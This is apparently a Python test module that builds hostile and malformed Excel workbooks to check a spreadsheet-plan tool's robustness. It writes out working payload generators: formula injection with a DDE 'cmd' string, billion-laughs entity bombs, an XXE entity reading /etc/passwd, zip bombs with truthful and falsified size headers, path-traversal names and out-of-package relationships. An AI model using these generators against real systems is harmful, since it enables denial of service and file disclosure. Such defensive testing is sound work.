"""Hostile and messy workbooks, each built reproducibly into a folder.

Only what LibreOffice alone can make is committed: the example plan as .xls and .ods
(tests/fixtures/, built by tests/fixtures/build.py), so no case depends on LibreOffice at test time.

Every case is a function `case(folder) -> Path` that writes one file into `folder` and returns its
path. Most start from the example plan and change it the way a real file arrives changed: edited
with openpyxl as Excel would (rename, delete a column), or with one package part rewritten as
another program or an attacker would write it.

Run as a script to build the corpus and check every file with the command line, printing one line
per case (exit code, finding or error code, peak memory, time, input unchanged):

    .venv/bin/python tests/hostile.py [FOLDER]
"""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import openpyxl
from openpyxl.utils.cell import get_column_letter, range_boundaries
from workbooks import table_cell  # noqa: F401  (used by the tests through this module too)

from odplan_xl import schema
from odplan_xl.workbook.example import example_data
from odplan_xl.workbook.template import build_workbook

CASES: dict[str, Callable[[Path], Path]] = {}
FIXTURES = Path(__file__).resolve().parent / "fixtures"

# Values a formula-injection attack would type (each one is text and must stay text).
INJECTIONS = ("=1+1", "+SUM(1;2)", "-2+3", "@SUM(A1)", "=HYPERLINK(\"http://example.invalid\";\"x\")",
              "=cmd|' /C calc'!A0")
STRUCTURE_ATTACK = "../../x\u202e/CON\\a\u200b"
BOMB_BYTES = 4 * 1024 ** 3          # the honest zip bomb inflates to 4 GiB
LYING_BOMB_BYTES = 1024 ** 3        # the one whose headers lie inflates to 1 GiB
MANY_ROWS = 100_000
HUGE_CELL_CHARS = 1024 * 1024


def case(fn: Callable[[Path], Path]) -> Callable[[Path], Path]:
    CASES[fn.__name__] = fn
    return fn


# --- helpers ------------------------------------------------------------------------------------
def example(folder: Path, data: dict | None = None, name: str = "_example.xlsx") -> Path:
    """The example plan (or `data`) built into `folder` once."""
    path = folder / name
    if not path.exists() or data is not None:
        build_workbook(path, data if data is not None else example_data())
    return path


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def rewrite(src: Path, dst: Path, changes: dict[str, Callable[[bytes], bytes] | bytes]) -> Path:
    """Copy the package `src` to `dst`, member by member, replacing or transforming some members."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            change = changes.get(info.filename)
            if change is not None:
                data = change if isinstance(change, bytes) else change(data)
            zout.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED)
    return dst


def sheet_part(path: Path, title: str) -> str:
    """The package part ("xl/worksheets/sheet6.xml") of the sheet called `title`."""
    with zipfile.ZipFile(path) as zf:
        book = zf.read("xl/workbook.xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(rf'<sheet [^>]*name="{re.escape(title)}"[^>]*r:id="(rId\d+)"', book).group(1)
    target = re.search(rf'<Relationship [^>]*Id="{rid}"[^>]*Target="([^"]+)"', rels)
    if target is None:
        target = re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid}"', rels)
    return "xl/" + target.group(1).lstrip("/").removeprefix("xl/")


def replace_cell(xml: bytes, ref: str, new: str) -> bytes:
    """Replace the <c r="ref"> element of a sheet's XML by `new` (keeping its style)."""
    text = xml.decode("utf-8")
    pattern = re.compile(rf'<c r="{ref}"(?P<attrs>[^>]*?)(?:/>|>.*?</c>)', re.S)
    match = pattern.search(text)
    assert match, ref
    style = re.search(r' s="\d+"', match.group("attrs"))
    new = new.replace("<c ", f"<c r=\"{ref}\"{style.group(0) if style else ''} ", 1)
    return (text[:match.start()] + new + text[match.end():]).encode("utf-8")


def soffice_convert(src: Path, fmt: str, target: Path) -> Path:
    """LibreOffice's own conversion of `src` (with a private profile, so parallel runs don't clash)."""
    soffice = shutil.which("soffice")
    if soffice is None:
        raise FileNotFoundError("soffice")
    with tempfile.TemporaryDirectory(prefix="lo_") as profile, \
            tempfile.TemporaryDirectory(prefix="lo_out_") as out:
        subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless",
                        "--convert-to", fmt, "--outdir", out, str(src)],
                       check=True, capture_output=True, timeout=240)
        made = next(Path(out).iterdir())
        shutil.move(made, target)
    return target


def _sheet_names_in_formulas(wb: openpyxl.Workbook, renames: dict[str, str]) -> None:
    """Rewrite sheet names in defined names as Excel does when a sheet is renamed."""
    def quoted(name: str) -> str:
        return "'" + name.replace("'", "''") + "'"

    for dn in list(wb.defined_names.values()):
        text = dn.attr_text
        for old, new in renames.items():
            text = text.replace(quoted(old) + "!", quoted(new) + "!").replace(old + "!", quoted(new) + "!")
        dn.attr_text = text


def _shift_names(wb: openpyxl.Workbook, sheet: str, after_col: int, by: int) -> None:
    """Move defined names of `sheet` that point right of column `after_col` by `by` columns."""
    for dn in wb.defined_names.values():
        dests = list(dn.destinations)
        if len(dests) != 1 or dests[0][0] != sheet:
            continue
        cell = dests[0][1].replace("$", "")
        col, row = re.fullmatch(r"([A-Z]+)(\d+)", cell).groups()
        index = openpyxl.utils.column_index_from_string(col)
        if index > after_col:
            new = f"${get_column_letter(index + by)}${row}"
            dn.attr_text = dn.attr_text.split("!")[0] + "!" + new


# --- not a workbook ------------------------------------------------------------------------------
@case
def not_a_zip(folder: Path) -> Path:
    path = folder / "not_a_zip.xlsx"
    path.write_text("الهيكل;السنة\nوزارة;2027\n" * 50, encoding="utf-8")   # a CSV someone renamed
    return path


@case
def truncated(folder: Path) -> Path:
    data = example(folder).read_bytes()
    path = folder / "truncated.xlsx"
    path.write_bytes(data[:len(data) // 2])
    return path


@case
def corrupted_member(folder: Path) -> Path:
    """Bytes overwritten in the middle of a worksheet's compressed data (a bad disk, a bad download)."""
    src = example(folder)
    part = sheet_part(src, schema.section("datasets").sheet)
    data = bytearray(src.read_bytes())
    with zipfile.ZipFile(src) as zf:
        info = zf.getinfo(part)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    middle = start + info.compress_size // 2
    data[middle:middle + 64] = bytes(range(64))
    path = folder / "corrupted_member.xlsx"
    path.write_bytes(bytes(data))
    return path


@case
def empty(folder: Path) -> Path:
    path = folder / "empty.xlsx"
    path.write_bytes(b"")
    return path


@case
def encrypted(folder: Path) -> Path:
    """A real password-protected workbook (Agile encryption, as Excel writes it)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    path = folder / "encrypted.xlsx"
    with example(folder).open("rb") as src, path.open("wb") as out:
        OOXMLFile(src).encrypt("motdepasse-كلمة", out)
    return path


@case
def zip_password(folder: Path) -> Path:
    """A workbook whose zip members are marked encrypted (a zip password set with 7-Zip or WinZip)."""
    data = bytearray(example(folder).read_bytes())
    with zipfile.ZipFile(example(folder)) as zf:
        infos = zf.infolist()
    for info in infos:                                  # general purpose flag, bit 0: encrypted
        data[info.header_offset + 6] |= 0x01
    at = len(data) - 22
    at = int.from_bytes(data[at + 16:at + 20], "little")   # start of the central directory
    for _ in infos:
        data[at + 8] |= 0x01
        at += 46 + sum(int.from_bytes(data[at + k:at + k + 2], "little") for k in (28, 30, 32))
    path = folder / "zip_password.xlsx"
    path.write_bytes(bytes(data))
    return path


@case
def old_xls(folder: Path) -> Path:
    """The example plan saved by LibreOffice as Excel 97-2003 (.xls)."""
    return Path(shutil.copyfile(FIXTURES / "example.xls", folder / "old_xls.xls"))


@case
def ods(folder: Path) -> Path:
    """The example plan saved by LibreOffice as an OpenDocument spreadsheet (.ods)."""
    return Path(shutil.copyfile(FIXTURES / "example.ods", folder / "ods.ods"))


@case
def docx_renamed(folder: Path) -> Path:
    import docx

    doc = docx.Document()
    doc.add_heading(schema.TITLE_AR, 0)
    doc.add_paragraph("وزارة التجهيز والإسكان — 2027")
    tmp = folder / "docx_renamed.docx"
    doc.save(tmp)
    return tmp.rename(folder / "docx_renamed.xlsx")


@case
def foreign_template(folder: Path) -> Path:
    """Another office's workbook: random data, several sheets, no tables, none of our names."""
    rng = random.Random(8)
    wb = openpyxl.Workbook()
    for s in range(3):
        ws = wb.active if s == 0 else wb.create_sheet()
        ws.title = f"Feuil{s + 1}"
        ws.append(["Nom", "Date", "Montant", "البيان"])
        for _ in range(200):
            ws.append([f"item-{rng.randrange(10**6)}", dt.date(2026, rng.randint(1, 12), rng.randint(1, 28)),
                       rng.random() * 1e6, rng.choice(["نعم", "لا", "غير محدد"])])
    path = folder / "foreign_template.xlsx"
    wb.save(path)
    return path


# --- edited by hand: must still read -----------------------------------------------------------
@case
def wrong_extension(folder: Path) -> Path:
    """A good workbook whose name lost its extension on the way (a mail client, a download)."""
    path = folder / "wrong_extension.xlsx.part"
    shutil.copyfile(example(folder), path)
    return path


@case
def sheets_renamed_reordered(folder: Path) -> Path:
    """Every section sheet renamed (one with an apostrophe) and the sheet order reversed."""
    wb = openpyxl.load_workbook(example(folder))
    renames = {}
    for i, spec in enumerate(schema.SECTIONS):
        new = f"Section {spec.number} l'{spec.key}" if i == 0 else f"ق{spec.number} - {spec.key}"
        renames[spec.sheet] = new
        wb[spec.sheet].title = new
    _sheet_names_in_formulas(wb, renames)
    wb._sheets.reverse()
    visible = next(i for i, ws in enumerate(wb.worksheets) if ws.sheet_state == "visible")
    wb.active = visible
    for ws in wb.worksheets:
        ws.sheet_view.tabSelected = False
    path = folder / "sheets_renamed_reordered.xlsx"
    wb.save(path)
    return path


@case
def deleted_column(folder: Path) -> Path:
    """Column «description» of section 4 deleted inside the table (the table shrinks with it)."""
    wb = openpyxl.load_workbook(example(folder))
    spec = schema.section("datasets")
    ws = wb[spec.sheet]
    table = ws.tables[spec.table]
    min_col, min_row, max_col, max_row = range_boundaries(table.ref)
    labels = [ws.cell(min_row, c).value for c in range(min_col, max_col + 1)]
    col = min_col + labels.index(spec.column("description").ar)
    ws.delete_cols(col)
    table.ref = f"{get_column_letter(min_col)}{min_row}:{get_column_letter(max_col - 1)}{max_row}"
    table.autoFilter.ref = table.ref
    table.tableColumns = [c for c in table.tableColumns if c.name != spec.column("description").ar]
    for i, c in enumerate(table.tableColumns, start=1):
        c.id = i
    _shift_names(wb, spec.sheet, col, -1)
    path = folder / "deleted_column.xlsx"
    wb.save(path)
    return path


EXTRA_HEADERS = ("ملاحظة إضافية", "Remarque / ملاحظات")


@case
def extra_columns(folder: Path) -> Path:
    """Two columns added to section 3's table: one inserted in the middle, one appended at the end."""
    from openpyxl.worksheet.table import TableColumn

    wb = openpyxl.load_workbook(example(folder))
    spec = schema.section("inventory")
    ws = wb[spec.sheet]
    table = ws.tables[spec.table]
    min_col, min_row, max_col, max_row = range_boundaries(table.ref)
    middle = min_col + 2
    ws.insert_cols(middle)
    _shift_names(wb, spec.sheet, middle - 1, 1)
    end = max_col + 2
    for col, header in ((middle, EXTRA_HEADERS[0]), (end, EXTRA_HEADERS[1])):
        ws.cell(min_row, col, header)
        for r in range(min_row + 1, max_row + 1):
            ws.cell(r, col, f"{header} {r}")
    columns = list(table.tableColumns)
    columns.insert(middle - min_col, TableColumn(id=0, name=EXTRA_HEADERS[0]))
    columns.append(TableColumn(id=0, name=EXTRA_HEADERS[1]))
    for i, c in enumerate(columns, start=1):
        c.id = i
    table.tableColumns = columns
    table.ref = f"{get_column_letter(min_col)}{min_row}:{get_column_letter(end)}{max_row}"
    table.autoFilter.ref = table.ref
    path = folder / "extra_columns.xlsx"
    wb.save(path)
    return path


@case
def merged_cells(folder: Path) -> Path:
    """Cells merged inside section 5's table: two rows down one column, two columns across one row."""
    wb = openpyxl.load_workbook(example(folder))
    spec = schema.section("tools")
    ws = wb[spec.sheet]
    min_col, min_row, max_col, _ = range_boundaries(ws.tables[spec.table].ref)
    ws.merge_cells(start_row=min_row + 1, start_column=min_col, end_row=min_row + 2, end_column=min_col)
    ws.merge_cells(start_row=min_row + 3, start_column=min_col + 1, end_row=min_row + 3,
                   end_column=min_col + 2)
    path = folder / "merged_cells.xlsx"
    wb.save(path)
    return path


FORMULA_ERROR_CELLS = (("inventory", 0, "activity", "#REF!", "#REF!+1"),
                       ("tools", 1, "tool", "#DIV/0!", "1/0"),
                       ("budget", 0, "amount", "#VALUE!", "\"a\"+1"))


@case
def formula_errors(folder: Path) -> Path:
    """Formula cells whose saved result is an error, as Excel stores them (t="e" with a cached value)."""
    src = example(folder)
    changes: dict[str, Callable[[bytes], bytes]] = {}
    for section, index, key, error, formula in FORMULA_ERROR_CELLS:
        sheet, ref = table_cell(src, schema.section(section).table, index, key)
        part = sheet_part(src, sheet)
        previous = changes.get(part, lambda b: b)
        new = f'<c t="e"><f>{formula.replace(chr(34), "&quot;")}</f><v>{error}</v></c>'
        changes[part] = (lambda prev, r, n: lambda b: replace_cell(prev(b), r, n))(previous, ref, new)
    return rewrite(src, folder / "formula_errors.xlsx", changes)


@case
def formulas_not_evaluated(folder: Path) -> Path:
    """Formulas whose saved result differs from what they would compute: the saved result is read."""
    src = example(folder)
    sheet, ref = table_cell(src, "tbl_objectives", 0, "indicator")
    new = ("<c t=\"str\"><f>WEBSERVICE(\"http://example.invalid/\"&amp;cmd|' /C calc'!A0)</f>"
           "<v>نص محفوظ</v></c>")
    part = sheet_part(src, sheet)
    return rewrite(src, folder / "formulas_not_evaluated.xlsx", {part: lambda b: replace_cell(b, ref, new)})


@case
def date_out_of_range(folder: Path) -> Path:
    """A date-formatted cell holding a serial number no calendar can hold."""
    src = example(folder)
    sheet, ref = table_cell(src, "tbl_inventory", 0, "start")
    part = sheet_part(src, sheet)
    return rewrite(src, folder / "date_out_of_range.xlsx",
                   {part: lambda b: replace_cell(b, ref, "<c><v>99999999999</v></c>")})


@case
def extreme_numbers(folder: Path) -> Path:
    """Numbers at the edge of what XML can spell: 1E999 (infinite), a 400-digit integer, -1E308."""
    src = example(folder)
    part = None
    changes = []
    for index, value in ((0, "1E999"), (1, "9" * 400), (2, "-0.0000000000000001")):
        sheet, ref = table_cell(src, "tbl_budget", index, "amount")
        part = sheet_part(src, sheet)
        changes.append((ref, f"<c><v>{value}</v></c>"))
    sheet, ref = table_cell(src, "tbl_trainings", 0, "participants")
    tpart = sheet_part(src, sheet)

    def budget(b: bytes) -> bytes:
        for r, new in changes:
            b = replace_cell(b, r, new)
        return b

    return rewrite(src, folder / "extreme_numbers.xlsx",
                   {part: budget, tpart: lambda b: replace_cell(b, ref, "<c><v>-1E308</v></c>")})


@case
def not_a_number(folder: Path) -> Path:
    """A number cell holding "NaN" (no spreadsheet writes it; openpyxl cannot read it)."""
    src = example(folder)
    sheet, ref = table_cell(src, "tbl_budget", 0, "amount")
    return rewrite(src, folder / "not_a_number.xlsx",
                   {sheet_part(src, sheet): lambda b: replace_cell(b, ref, "<c><v>NaN</v></c>")})


@case
def many_rows(folder: Path) -> Path:
    """Section 1 with 100,000 filled rows."""
    data = example_data()
    rows = data["sections"]["objectives"]
    data["sections"]["objectives"] = [dict(rows[i % len(rows)], objective=f"هدف رقم {i}")
                                      for i in range(MANY_ROWS)]
    return build_workbook(folder / "many_rows.xlsx", data)


@case
def table_to_last_row(folder: Path) -> Path:
    """Section 1's table stretched to Excel's last row (a whole-column selection), 6 rows filled."""
    src = example(folder)
    with zipfile.ZipFile(src) as zf:
        part = next(n for n in zf.namelist() if n.startswith("xl/tables/")
                    and b'name="tbl_objectives"' in zf.read(n))

    def stretch(xml: bytes) -> bytes:
        return re.sub(rb'ref="([A-Z]+\d+):([A-Z]+)\d+"', rb'ref="\1:\g<2>1048576"', xml)

    return rewrite(src, folder / "table_to_last_row.xlsx", {part: stretch})


@case
def huge_cell(folder: Path) -> Path:
    """A 1 MB text in one cell (Excel and openpyxl stop at 32,767 characters: the XML is written)."""
    src = example(folder)
    sheet, ref = table_cell(src, "tbl_objectives", 0, "objective")
    # words drawn at random: a pasted document, not a repeated pattern (that would be a zip bomb)
    rng = random.Random(1)
    words = [w for w in schema.TITLE_AR.split() + schema.TITLE_FR.split() + schema.DECREE_AR.split()]
    parts, size = [], 0
    while size < HUGE_CELL_CHARS:
        parts.append(rng.choice(words) + str(rng.randrange(1000)))
        size += len(parts[-1]) + 1
    text = " ".join(parts)[:HUGE_CELL_CHARS]
    return rewrite(src, folder / "huge_cell.xlsx", {
        sheet_part(src, sheet): lambda b: replace_cell(b, ref, f'<c t="inlineStr"><is><t>{text}</t></is></c>')})


CONTROL_TEXT = "بيانات\x01مفتوحة\x07\x1f"


@case
def control_characters(folder: Path) -> Path:
    """XML-invalid control characters, escaped the way Excel stores them (_x0001_)."""
    data = example_data()
    data["sections"]["objectives"][0]["indicator"] = CONTROL_TEXT
    data["sections"]["team"][0]["name"] = "فريق\x00العمل"
    return build_workbook(folder / "control_characters.xlsx", data)


@case
def raw_control_character(folder: Path) -> Path:
    """A control character written raw into sharedStrings.xml: the XML itself is broken."""
    src = example(folder)
    return rewrite(src, folder / "raw_control_character.xlsx",
                   {"xl/sharedStrings.xml": lambda b: b.replace("وزارة".encode(), "وزا\x01رة".encode(), 1)})


BIDI_TEXT = "\u202eتحديث\u200b البيانات\u2066\ufeff"


@case
def bidi_and_zero_width(folder: Path) -> Path:
    """Right-to-left override, isolates, zero-width space and BOM hidden in cells."""
    data = example_data()
    data["sections"]["inventory"][0]["activity"] = BIDI_TEXT
    data["cover"]["officer"] = "\u202bسنية\u200b بن عمر\u202c"
    return build_workbook(folder / "bidi_and_zero_width.xlsx", data)


@case
def hostile_structure_name(folder: Path) -> Path:
    """A structure name built to escape the output folder when used as a file name."""
    data = example_data()
    data["cover"]["structure"] = STRUCTURE_ATTACK
    return build_workbook(folder / "hostile_structure_name.xlsx", data)


@case
def formula_injection(folder: Path) -> Path:
    """Text that starts like a formula, in dated activities (they go to the Gantt sheet) and elsewhere."""
    data = example_data()
    for i, text in enumerate(INJECTIONS):
        row = data["sections"]["inventory"][i % len(data["sections"]["inventory"])]
        if i < len(data["sections"]["inventory"]):
            row["activity"] = text
            row["responsible"] = text
        else:
            data["sections"]["calendar"][i % len(data["sections"]["calendar"])]["activity"] = text
    data["sections"]["objectives"][0]["indicator"] = INJECTIONS[0]
    return build_workbook(folder / "formula_injection.xlsx", data)


@case
def odd_references(folder: Path) -> Path:
    """A cover name pointing at a whole column, another at a range, a table with a nonsense range."""
    src = example(folder)

    def book(xml: bytes) -> bytes:
        text = xml.decode()
        text = re.sub(r'(<definedName name="cover_structure">[^!<]*!)[^<]*', r"\1$C:$C", text)
        text = re.sub(r'(<definedName name="cover_officer">[^!<]*!)[^<]*', r"\1$C$5:$D$9", text)
        return text.encode()

    return rewrite(src, folder / "odd_references.xlsx", {
        "xl/workbook.xml": book,
        "xl/tables/table2.xml": lambda b: re.sub(rb' ref="[^"]*"', b' ref="ZZZZ0:A"', b, count=1)})


# --- attacks on the parser ----------------------------------------------------------------------
_LOL = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                  for i in range(1, 10)) + "]>")


def _with_doctype(xml: bytes, doctype: str, inject: tuple[bytes, bytes] | None = None) -> bytes:
    head, sep, rest = xml.partition(b"?>")
    out = head + sep + doctype.encode() + rest if sep else doctype.encode() + xml
    if inject:
        out = out.replace(inject[0], inject[1], 1)
    return out


@case
def entity_bomb(folder: Path) -> Path:
    """"Billion laughs" in sharedStrings.xml: 10^9 "lol"s (3 GB) from a few hundred bytes."""
    return rewrite(example(folder), folder / "entity_bomb.xlsx", {
        "xl/sharedStrings.xml": lambda b: _with_doctype(b, _LOL, (b"</sst>", b"<si><t>&lol9;</t></si></sst>"))})


@case
def entity_bomb_in_workbook(folder: Path) -> Path:
    """The same bomb in xl/workbook.xml (parsed by openpyxl with lxml, and by our table reader)."""
    return rewrite(example(folder), folder / "entity_bomb_in_workbook.xlsx", {
        "xl/workbook.xml": lambda b: _with_doctype(b, _LOL, (b"<sheets>", b"<!-- &lol9; --><sheets>"))
        .replace(b"<!-- &lol9; -->", b"")})


@case
def entity_bomb_in_table(folder: Path) -> Path:
    """The bomb in a table part (read only by our own table reader)."""
    return rewrite(example(folder), folder / "entity_bomb_in_table.xlsx", {
        "xl/tables/table1.xml": lambda b: _with_doctype(b, _LOL).replace(b'displayName="', b'comment="&lol9;" displayName="', 1)})


@case
def entity_bomb_in_sheet(folder: Path) -> Path:
    """The bomb in a worksheet (parsed lazily, when its cells are read)."""
    src = example(folder)
    part = sheet_part(src, schema.section("objectives").sheet)
    return rewrite(src, folder / "entity_bomb_in_sheet.xlsx", {
        part: lambda b: _with_doctype(b, _LOL, (b"<sheetData>", b"<sheetData><row r=\"1\"><c r=\"Z1\" t=\"inlineStr\"><is><t>&lol9;</t></is></c></row>"))})


@case
def external_entity(folder: Path) -> Path:
    """XXE: an entity that would pull a local file into a cell."""
    doctype = '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return rewrite(example(folder), folder / "external_entity.xlsx", {
        "xl/sharedStrings.xml": lambda b: _with_doctype(b, doctype, (b"</sst>", b"<si><t>&xxe;</t></si></sst>"))})


class _RepeatingDeflate:
    """A deflate stream that compresses each repeated chunk once and writes the same bytes again.

    After a full flush a deflate stream refers to nothing before it, so the blocks for identical
    chunks are identical: gigabytes are written in seconds (the CRC is still computed on all of it).
    """

    def __init__(self, level: int = 9):
        self.level, self.cache = level, {}

    def _fresh(self):
        return zlib.compressobj(self.level, zlib.DEFLATED, -15)

    def compress(self, data: bytes) -> bytes:
        if data not in self.cache:
            c = self._fresh()
            self.cache[data] = c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)
        return self.cache[data]

    def flush(self) -> bytes:
        return self._fresh().flush()           # an empty final block ends the stream


def _bomb_member(zf: zipfile.ZipFile, name: str, size: int, *, zip64: bool) -> None:
    """A worksheet of `size` bytes of blanks between valid tags, streamed in 1 MiB chunks."""
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    tail = b"</sheetData></worksheet>"
    chunk = b" " * (1024 * 1024)
    info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED    # a bare ZipInfo would be stored uncompressed
    with zf.open(info, "w", force_zip64=zip64) as out:
        out._compressor = _RepeatingDeflate()    # zipfile's writer only calls compress() and flush()
        out.write(head)
        left = size - len(head) - len(tail)
        while left >= len(chunk):
            out.write(chunk)
            left -= len(chunk)
        out.write(b" " * left)
        out.write(tail)


def _bomb_package(src: Path, dst: Path, size: int, *, zip64: bool) -> str:
    """`src` with section 1's worksheet replaced by a blank sheet of `size` bytes; returns its name."""
    part = sheet_part(src, schema.section("objectives").sheet)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED,
                                                       compresslevel=9) as zout:
        for info in zin.infolist():
            if info.filename == part:
                _bomb_member(zout, part, size, zip64=zip64)
            else:
                zout.writestr(info, zin.read(info), compress_type=zipfile.ZIP_DEFLATED)
    return part


@case
def zip_bomb(folder: Path) -> Path:
    """A worksheet that inflates to 4 GiB from about 4 MB (headers tell the truth)."""
    path = folder / "zip_bomb.xlsx"
    _bomb_package(example(folder), path, BOMB_BYTES, zip64=True)
    return path


@case
def zip_bomb_lying_sizes(folder: Path) -> Path:
    """A worksheet that inflates to 1 GiB while its headers claim 40 KB (so size checks pass)."""
    path = folder / "zip_bomb_lying_sizes.xlsx"
    part = _bomb_package(example(folder), path, LYING_BOMB_BYTES, zip64=False)
    claimed = (40_000).to_bytes(4, "little")
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(part)
    local = info.header_offset
    assert data[local:local + 4] == b"PK\x03\x04"
    data[local + 22:local + 26] = claimed
    central = len(data) - 22                    # end of central directory record (no comment)
    assert data[central:central + 4] == b"PK\x05\x06"
    central = int.from_bytes(data[central + 16:central + 20], "little")
    while True:
        name_len = int.from_bytes(data[central + 28:central + 30], "little")
        extra_len = int.from_bytes(data[central + 30:central + 32], "little")
        comment_len = int.from_bytes(data[central + 32:central + 34], "little")
        if data[central + 46:central + 46 + name_len].decode() == part:
            data[central + 24:central + 28] = claimed
            break
        central += 46 + name_len + extra_len + comment_len
    path.write_bytes(bytes(data))
    return path


@case
def big_shared_strings(folder: Path) -> Path:
    """2.5 million short distinct strings (65 MB, compressed 5 times only): under the zip checks."""
    def more(xml: bytes) -> bytes:
        head, _, rest = xml.partition(b"<si>")
        body, _, _ = rest.rpartition(b"</sst>")
        extra = b"".join(b"<si><t>%d</t></si>" % (i * 7919) for i in range(2_500_000))
        return head + b"<si>" + body + extra + b"</sst>"

    return rewrite(example(folder), folder / "big_shared_strings.xlsx", {"xl/sharedStrings.xml": more})


@case
def many_members(folder: Path) -> Path:
    """A package with 50,000 tiny extra parts (a central directory of about 4 MB)."""
    path = rewrite(example(folder), folder / "many_members.xlsx", {})
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as zf:
        for i in range(50_000):
            zf.writestr(zipfile.ZipInfo(f"customXml/item{i:06d}.xml", date_time=(2025, 1, 1, 0, 0, 0)), b"")
    return path


@case
def deep_nesting(folder: Path) -> Path:
    """A table part nested 100,000 elements deep (recursive parsers and destructors overflow)."""
    deep = b"<a>" * 100_000 + b"</a>" * 100_000
    return rewrite(example(folder), folder / "deep_nesting.xlsx", {
        "xl/tables/table1.xml": lambda b: b.replace(b"</table>", deep + b"</table>")})


@case
def outside_references(folder: Path) -> Path:
    """Relationships that point outside the package (a local file, a network path, a URL)."""
    src = example(folder)
    part = sheet_part(src, schema.section("objectives").sheet)
    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    evil = ('<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/table" Target="../../../../../../etc/passwd"/>'
            '<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/table" Target="file:///etc/passwd" TargetMode="External"/>'
            '<Relationship Id="rIdX3" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/table" Target="\\\\server\\share\\t.xml"/></Relationships>').encode()
    return rewrite(src, folder / "outside_references.xlsx",
                   {rels: lambda b: b.replace(b"</Relationships>", evil)})


# --- run as a script ------------------------------------------------------------------------------
# Runs the command and writes its peak memory to argv[1]. The command is started from this small
# process on purpose: Linux carries a process's peak over exec(), so a child forked straight from a
# big test process would report the parent's size, not its own.
_MEASURE = ("import os, resource, subprocess, sys\n"
            "code = subprocess.run(sys.argv[2:]).returncode\n"
            "with open(sys.argv[1], 'w') as fh:\n"
            "    fh.write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss))\n"
            "sys.exit(code if code >= 0 else 128 - code)\n")


def run_measured(args: list[str], timeout: float = 600) -> tuple[int, str, str, int, float]:
    """Run a command; (exit code, stdout, stderr, its peak resident memory in KiB, seconds)."""
    with tempfile.TemporaryDirectory(prefix="measure_") as tmp:
        peak_file = Path(tmp) / "peak"
        start = time.monotonic()
        proc = subprocess.Popen([sys.executable, "-c", _MEASURE, str(peak_file), *args],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                stdin=subprocess.DEVNULL, start_new_session=True)
        try:
            out, err = proc.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, 9)
            out, err = proc.communicate()
        elapsed = time.monotonic() - start
        peak = int(peak_file.read_text()) if peak_file.exists() else -1
    return proc.returncode, out.decode("utf-8", "replace"), err.decode("utf-8", "replace"), peak, elapsed


def check_command(path: Path) -> list[str]:
    return [sys.executable, "-m", "odplan_xl.cli", "check", str(path), "--format", "json"]


def main(argv: list[str]) -> int:
    """Build the corpus into a folder and check every case with the command line."""
    import json

    from odplan_xl.app.check import check
    from odplan_xl.errors import OdplanError

    folder = Path(argv[0]) if argv else Path(tempfile.mkdtemp(prefix="hostile_"))
    folder.mkdir(parents=True, exist_ok=True)
    print(f"corpus: {folder}")
    print(f"{'case':26} {'exit':>4}  {'outcome':38} {'peak MB':>7} {'s':>5}  input")
    counts = {"error": 0, "findings": 0, "traceback": 0, "changed": 0}
    for name, build in CASES.items():
        path = build(folder)
        before = digest(path)
        code, out, err, peak, secs = run_measured(check_command(path))
        if code == 2:
            try:
                check(path)
                outcome = "exit 2 but readable?"
            except OdplanError as exc:
                outcome = f"error {exc.code}"
            counts["error"] += 1
        else:
            try:
                outcome = ",".join(sorted({f["code"] for f in json.loads(out)["findings"]})) or "no finding"
                counts["findings"] += 1
            except ValueError:
                outcome = "unreadable output"
        same = digest(path) == before
        counts["changed"] += not same
        counts["traceback"] += "Traceback" in out + err or code not in (0, 1, 2)
        print(f"{name:26} {code:>4}  {outcome[:38]:38} {peak / 1024:7.0f} {secs:5.1f}  "
              f"{'unchanged' if same else 'CHANGED'}")
    print(f"{len(CASES)} cases: {counts['error']} clean errors (exit 2), {counts['findings']} read "
          f"(exit 0/1), {counts['traceback']} tracebacks or internal errors, {counts['changed']} inputs "
          f"changed")
    return 1 if counts["traceback"] or counts["changed"] else 0


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    raise SystemExit(main(sys.argv[1:]))
